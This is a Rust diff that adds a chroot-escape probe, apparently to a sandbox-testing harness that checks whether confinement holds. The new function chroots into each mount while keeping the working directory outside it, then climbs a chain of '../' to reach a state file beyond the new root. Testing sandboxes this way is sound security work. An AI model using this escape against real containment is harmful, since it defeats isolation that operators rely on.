@@ -180,6 +180,26 @@ pub fn chroot<K: Attack>(kernel: &mut K) -> Tried {
     open("chroot(2)")
 }
 
+/// The classic one: what stands above its own root is held by none any more. Which directory it is
+/// doesn't matter.
+pub fn chroot_out<K: Attack>(kernel: &mut K, target: &Target) -> Tried {
+    kernel.chdir("/")?;
+    let mut last = nothing("it has no directory to change to");
+    let mounts = target.mounts.iter().filter(|mount| mount.target != "/");
+    for mount in mounts {
+        match kernel.chroot(&mount.target) {
+            Ok(()) => {
+                let state = format!("../../../../../../../..{STATE}");
+                kernel.lstatat(At::Cwd, &state)?;
+                return open(format!("{STATE} by way of {}", mount.target));
+            }
+            Err(failure) if failure.errno == Errno::ENOTDIR => {}
+            Err(failure) => last = Err(failure),
+        }
+    }
+    last
+}
+
 pub fn mount<K: Kernel>(kernel: &mut K) -> Tried {
     kernel.nmount(&Nmount {
         filesystem: Filesystem::Tmpfs {
